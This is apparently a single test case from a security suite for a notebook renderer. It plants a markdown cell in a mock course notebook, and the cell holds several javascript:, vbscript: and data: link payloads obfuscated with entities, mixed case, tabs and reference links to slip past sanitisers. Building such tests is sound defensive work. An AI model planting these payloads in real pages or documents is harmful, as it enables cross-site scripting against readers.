# attack: 110
# title: links that are scripts: plain, by reference, in entities, decoded twice
# success: a click on one runs a script
# kind: submission
# naive: shown
import json

TEXT = """[a](javascript:alert(1)) [a](JaVaScRiPt:alert(1)) [a](java&#115;cript:alert(1))
[a](javascript&colon;alert(1)) [a](javascript&ampcolon;alert(1)) <javascript:alert(1)>
[a](javascript&amp;colon;alert(1)) [a](<java\tscript:alert(1)>) [a](java&Tab;script:alert(1))
[a](javascript\\:alert(1)) [a](vbscript:x) [a](data:text/html;base64,PHNjcmlwdD4=) [b] [c][b]

[b]: javascript:alert(1)
"""


def build(folder, notebook):
    notebook["cells"].append({**code_cell(TEXT), "cell_type": "markdown", "id": "m"})
    (folder / "a07_backpropagation.ipynb").write_text(json.dumps(notebook))
